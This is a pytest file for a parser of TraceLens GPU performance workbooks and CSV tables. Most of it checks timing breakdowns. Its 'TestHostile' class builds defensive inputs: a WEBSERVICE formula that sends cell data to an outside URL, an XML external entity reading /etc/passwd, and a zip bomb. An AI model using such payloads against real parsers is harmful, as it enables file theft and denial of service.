"""TraceLens' reports: workbooks, directories of CSV files, comparisons, several ranks; and hostile
workbooks.
"""

import io
import zipfile

import pytest

from tprimat import read
from tprimat.read import tracelens
from tprimat.read.parsing.parsed_log import InputFile
from tprimat.read.tracelens import FILE_FORMATS

WORKBOOK, TABLES = FILE_FORMATS

PARTS = {
    "computation": "computation",
    "exposed_comm": "exposed_communication",
    "idle": "idle",
    "total": "total",
}
SINGLE = (
    "171dd747_gpu_only_trace_gpu_only_trace_perf_report.xlsx",
    "171dd747_xdit_hunyuanvideo_perf_report.xlsx",
    "203e0328_reference_h100_perf_report.xlsx",
    "203e0328_reference_mi300_perf_report.xlsx",
)


def runs_of(content: bytes, name="report.xlsx"):
    assert read.file_format_of(content[: read.HEAD]) is WORKBOOK
    return [reading.run() for reading in WORKBOOK.read([InputFile(name, io.BytesIO(content))], {})]


def workbook(sheets: dict[str, list[list]]) -> bytes:
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.Workbook()
    book.remove(book.active)
    for title, rows in sheets.items():
        sheet = book.create_sheet(title)
        for row in rows:
            sheet.append(row)
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


TIMELINE = [
    ["type", "time ms", "percent"],
    ["computation_time", 80.0, 80],
    ["exposed_comm_time", 10.0, 10],
    ["exposed_memcpy_time", 0.0, 0],
    ["idle_time", 10.0, 10],
    ["total_time", 100.0, 100],
]


@pytest.mark.parametrize("name", SINGLE)
def test_a_real_report_is_read_as_its_truth_says(name, samples, truth):
    pytest.importorskip("openpyxl")
    expected = truth("tracelens")[name]
    (run,) = runs_of((samples / "tracelens" / name).read_bytes())
    for part, milliseconds in expected["totals_ms"].items():
        assert run.breakdown[PARTS[part]] == pytest.approx(milliseconds / 1e3)
    for category, milliseconds in expected["top_categories_ms"] or ():
        assert run.breakdown[f"category {category}"] == pytest.approx(milliseconds / 1e3)
    if "kernel_summary_total_ms" in expected:
        assert run.native_metrics["kernel_total_seconds"] == pytest.approx(
            expected["kernel_summary_total_ms"] / 1e3
        )
    if "categories_total_ms" in expected:
        assert run.native_metrics["category_total_seconds"] == pytest.approx(
            expected["categories_total_ms"] / 1e3
        )
    assert run.steps == ()
    assert run.framework == "tracelens"


def test_a_real_comparison_gives_the_two_sides_of_the_single_reports(samples, truth):
    pytest.importorskip("openpyxl")
    name = "203e0328_reference_compare_h100_mi300_qwen.xlsx"
    expected = truth("tracelens")[name]["totals_ms"]
    runs = {run.label: run for run in runs_of((samples / "tracelens" / name).read_bytes())}
    assert set(runs) == {"h100", "mi300"}
    for side, run in runs.items():
        for part, milliseconds in expected[side].items():
            assert run.breakdown[PARTS[part]] == pytest.approx(milliseconds / 1e3)
        single = truth("tracelens")[f"203e0328_reference_{side}_perf_report.xlsx"]
        assert run.native_metrics["kernel_total_seconds"] == pytest.approx(
            single["kernel_summary_total_ms"] / 1e3
        )


def test_a_folder_of_tables_of_two_ranks():
    def tables(rank, computation):
        timeline = f"type,time ms,percent\ncomputation_time,{computation},80\ntotal_time,100,100\n"
        collectives = "rank,Collective name,dur_sum\n0,allreduce,5000\n0,allgather,2500\n"
        folder = f"traces/rank{rank}_perf_report_csvs"
        return [
            InputFile(f"{folder}/gpu_timeline.csv", io.BytesIO(timeline.encode())),
            InputFile(f"{folder}/coll_analysis.csv", io.BytesIO(collectives.encode())),
        ]

    parts = [*tables(0, 80.0), *tables(1, 60.0)]
    assert len({TABLES.together(part.name) for part in parts}) == 1
    assert all(read.file_format_of(part.stream.getvalue()) is TABLES for part in parts)
    (reading,) = TABLES.read(parts, {})
    run = reading.run()
    assert run.breakdown["computation"] == pytest.approx(0.07)
    assert run.breakdown["collective allreduce"] == pytest.approx(0.005)
    assert run.native_metrics["computation_highest_of_ranks_seconds"] == pytest.approx(0.08)
    assert reading.notes == ("means of 2 ranks",)
    # A rank without a table is no rank without communication.
    (reading,) = TABLES.read([*tables(0, 80.0), tables(1, 60.0)[0]], {})
    assert reading.run().breakdown["collective allreduce"] == pytest.approx(0.005)
    assert reading.run().breakdown["computation"] == pytest.approx(0.07)


def test_ranks_are_together_and_other_reports_are_not():
    together = WORKBOOK.together
    assert together("a/rank0_perf_report.xlsx") == together("a/rank12_perf_report.xlsx")
    assert together("a/h100_perf_report.xlsx") != together("a/mi300_perf_report.xlsx")


class TestHostile:
    def test_a_formula_is_not_evaluated(self):
        rows = [list(row) for row in TIMELINE]
        rows[1][1] = '=WEBSERVICE("http://example.invalid/"&A1)'
        (run,) = runs_of(workbook({"gpu_timeline": rows}))
        assert "computation" not in run.breakdown
        assert run.breakdown["idle"] == pytest.approx(0.01)

    def test_a_workbook_of_something_else(self):
        with pytest.raises(ValueError, match="no sheet gpu_timeline"):
            runs_of(workbook({"Sheet1": [["name", "price"], ["a", 1]], "empty": []}))

    def test_parts_that_contradict_each_other_are_said(self):
        rows = [list(row) for row in TIMELINE]
        rows[5][1] = 50.0
        (run,) = runs_of(workbook({"gpu_timeline": rows}))
        assert any("one of them is wrong" in warning for warning in run.warnings)

    def replaced(self, name: str, content: bytes) -> bytes:
        stream = io.BytesIO()
        with (
            zipfile.ZipFile(io.BytesIO(workbook({"gpu_timeline": TIMELINE}))) as old,
            zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as new,
        ):
            for info in old.infolist():
                new.writestr(info.filename, content if info.filename == name else old.read(info))
        return stream.getvalue()

    def test_a_bomb(self):
        content = self.replaced("xl/worksheets/sheet1.xml", b"<worksheet>" + b" " * (1 << 25))
        with pytest.raises(ValueError, match="from almost nothing"):
            runs_of(content)

    @pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
    def test_entities(self, encoding):
        evil = (
            '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM'
            ' "file:///etc/passwd">]><worksheet>&e;</worksheet>'
        )
        with pytest.raises(ValueError, match="entities"):
            runs_of(self.replaced("xl/worksheets/sheet1.xml", evil.encode(encoding)))

    def test_damage(self):
        content = workbook({"gpu_timeline": TIMELINE})
        for end in range(100, len(content) - 1, 211):
            with pytest.raises(ValueError, match=r"damaged|no sheet"):
                WORKBOOK.read([InputFile("x", io.BytesIO(content[:end]))], {})
        for place in range(60, len(content), 101):
            noisy = content[:place] + b"\xff" * 4 + content[place + 4 :]
            try:
                readings = WORKBOOK.read([InputFile("x", io.BytesIO(noisy))], {})
            except ValueError:
                continue
            assert len(readings) == 1


class TestWorkbooksThatAreRefused:
    """Each limit, just below and just above it, by what the archive says of its parts."""

    BIG = (1 << 24) + 1

    @staticmethod
    def check(monkeypatch, *parts, limits=None):
        """Checks a workbook of these parts: name, size, packed size, method, flags, content."""

        class Archive:
            def __init__(self, stream):
                stream.read()

            def __enter__(self):
                return self

            def __exit__(self, *_):
                pass

            def infolist(self):
                return [info for info, _ in infos]

            def read(self, info):
                return next(content for each, content in infos if each is info)

        infos = []
        for name, size, packed, method, flags, content in parts:
            info = zipfile.ZipInfo(name)
            info.file_size, info.compress_size, info.compress_type, info.flag_bits = (
                size,
                packed,
                method,
                flags,
            )
            infos.append((info, content))
        monkeypatch.setattr(tracelens.zipfile, "ZipFile", Archive)
        for limit, value in (limits or {}).items():
            monkeypatch.setattr(tracelens, limit, value)
        part = InputFile("x", io.BytesIO(b"content"))
        try:
            tracelens._check_workbook(part)
        except ValueError as error:
            return str(error)
        return part.stream.tell()

    STORED, DEFLATED, OTHER = zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED, zipfile.ZIP_BZIP2

    @pytest.mark.parametrize(
        ("parts", "limits", "problem"),
        [
            ([], {}, 0),
            ([("a", 3, 3, STORED, 0, b""), ("b", 3, 3, DEFLATED, 2, b"")], {"LARGEST_WORKBOOK": 6}, 0),
            ([("a", 3, 3, STORED, 0, b""), ("b", 3, 3, STORED, 0, b"")], {"LARGEST_WORKBOOK": 5},
             "its parts unpack to more than 0 MiB"),
            ([("a", 1, 1, STORED, 0, b"")] * 10_000, {}, 0),
            ([("a", 1, 1, STORED, 0, b"")] * 10_001, {}, "its parts unpack to more than 64 MiB"),
            ([("a", 3, 3, OTHER, 0, b"")], {}, "it is not packed with deflate"),
            ([("a", BIG, BIG // 200, STORED, 0, b"")], {}, "a part unpacks to 16 MiB from almost nothing"),
            ([("a", BIG, BIG // 200 + 1, STORED, 0, b"")], {}, 0),
            ([("a", BIG - 1, 0, STORED, 0, b"")], {}, 0),
            ([("a", BIG, 0, STORED, 0, b"")], {}, "a part unpacks to 16 MiB from almost nothing"),
            ([("a", 1, 1, STORED, 3, b"")], {}, "it is encrypted"),
            ([("a.xml", 1, 1, STORED, 0, b"<!DOCTYPE")], {}, "it declares XML entities"),
            ([("a.rels", 1, 1, STORED, 0, b"x <!ENTITY")], {}, "it declares XML entities"),
            ([("a.bin", 1, 1, STORED, 0, b"<!DOCTYPE")], {}, 0),
            ([("a.xml", 1, 1, STORED, 0, b"<<"), ("b.xml", 1, 1, STORED, 0, b"<<<")], {"MOST_TAGS": 5}, 0),
            ([("a.xml", 1, 1, STORED, 0, b"<<<"), ("b.xml", 1, 1, STORED, 0, b"<<<")], {"MOST_TAGS": 5},
             "it has more than 5 tags"),
        ],
    )  # fmt: skip
    def test_a_limit(self, monkeypatch, parts, limits, problem):
        assert self.check(monkeypatch, *parts, limits=limits) == problem


@pytest.mark.parametrize(
    ("content", "has_one"),
    [
        (b"<?xml?><!DOCTYPE x>", True),
        (b"<!ENTITY x>", True),
        ("<!DOCTYPE x>".encode("utf-16"), True),
        (b"x" * 396 + "<!DOCTYPE x>".encode("utf-16-le"), True),
        (b"x" * 400 + "<!DOCTYPE x>".encode("utf-16-le"), False),
        (b"<worksheet>", False),
    ],
)
def test_a_document_type_in_whatever_encoding(content, has_one):
    assert tracelens._has_document_type(content) is has_one


@pytest.mark.parametrize(
    ("header", "kind"),
    [
        (["type", "time ms"], "time"),
        (["h100::type", "h100::time ms"], "time"),
        (["type", "time"], None),
        (["op category", "total_direct_kernel_time_ms", "x"], "category"),
        (["Kernel name", "Kernel duration (us)_sum"], "kernel"),
        (["Collective name", "total_dur"], "collective"),
        (["Collective name"], None),
    ],
)
def test_a_sheet_is_known_by_its_header(header, kind):
    found = tracelens._sheet_of(header)
    assert (found and found.kind) == kind


@pytest.mark.parametrize(
    ("rows", "table"),
    [
        ([], {}),
        ([["a", "b"], ["c", 1]], {}),
        ([["type", "time ms"], ["a", 2.5], ["b", "3.5"], ["a", 1.5], ["c", "x"], [None, 3], ["", 3], ["d"], []],
         {"": {"time": {"a": 0.004, "b": 0.0035}}}),
        ([["type", "time ms"], ["a", 0], ["b", -1], ["c", 1e15], ["d", 0.9e15]],
         {"": {"time": {"a": 0.0, "d": 0.9e12}}}),
        ([["type", "time ms"], ["n" * 401, 2.5]], {"": {"time": {"n" * 400: 0.0025}}}),
        # The first of two columns counts, and a sheet without rows is one.
        ([["Collective name", "dur_sum", "total_dur"], ["a", 2.5, 7.5]], {"": {"collective": {"a": 2.5e-6}}}),
        ([[" type ", None, "time ms"]], {"": {"time": {}}}),
        ([["type", "a::time ms", "a::x", "b::time ms"], ["r", 2.5, 1, 4.5], ["r", 2.5, 1, 5.5], ["r", 2.5, 2, None]],
         {"a": {"time": {"r": 0.005}}, "b": {"time": {"r": 0.01}}}),
        # Without systems, equal rows are of several streams.
        ([["type", "time ms"], ["r", 2.5], ["r", 2.5]], {"": {"time": {"r": 0.005}}}),
    ],
)  # fmt: skip
def test_what_a_sheet_holds(rows, table):
    found = {}
    tracelens._take(iter(rows), found)
    assert found == {
        side: {
            kind: {name: pytest.approx(seconds) for name, seconds in times.items()}
            for kind, times in kinds.items()
        }
        for side, kinds in table.items()
    }


def test_the_most_rows_of_a_sheet(monkeypatch):
    monkeypatch.setattr(tracelens, "MOST_ROWS", 2)
    found = {}
    tracelens._take(iter([["type", "time ms"], ["a", 1], ["b", 2], ["c", 3]]), found)
    assert list(found[""]["time"]) == ["a", "b"]


def test_a_workbook_has_its_sheets(monkeypatch):
    sheets = {
        "gpu_timeline": TIMELINE,
        "x": [["a", "b"], [1, 2]],
        "k": [["Kernel name", "Kernel duration (us)_sum"]],
    }
    sheets["k"] += [["gemm", 70_000.0], ["copy", 20_000.0]]
    (run,) = runs_of(workbook(sheets))
    assert run.breakdown == pytest.approx(
        {
            "computation": 0.08, "exposed_communication": 0.01, "exposed_copies": 0.0, "idle": 0.01, "total": 0.1,
            "kernel gemm": 0.07, "kernel copy": 0.02,
        }
    )  # fmt: skip
    assert (run.native_metrics, run.source.dialect) == (
        {"kernel_total_seconds": pytest.approx(0.09)},
        "tracelens (xlsx)",
    )


@pytest.mark.parametrize(
    ("head", "is_one"),
    [
        (b"PK\x03\x04 [Content_Types].xml", True), (b"PK\x03\x04 xl/workbook.xml", True), (b"PK\x03\x04 word/", False),
        (b"xl/workbook.xml", False),
    ],
)  # fmt: skip
def test_what_a_workbook_is_known_by(head, is_one):
    assert WORKBOOK.recognizes(head) is is_one


@pytest.mark.parametrize(
    ("head", "is_one"),
    [(b"type,time ms\n", True), (b"type\n", False), (b"a,b\n", False), (b"", False)],
)
def test_what_a_table_is_known_by(head, is_one):
    assert TABLES.recognizes(head) is is_one


@pytest.mark.parametrize(
    ("idle", "is_told"), [(10.9, False), (11.1, True), (8.9, True), (9.1, False)]
)
def test_how_far_the_parts_may_miss_the_total(idle, is_told):
    """A hundredth of it."""
    rows = [list(row) for row in TIMELINE]
    rows[4][1] = idle
    (run,) = runs_of(workbook({"gpu_timeline": rows}))
    assert any("one of them is wrong" in warning for warning in run.warnings) is is_told
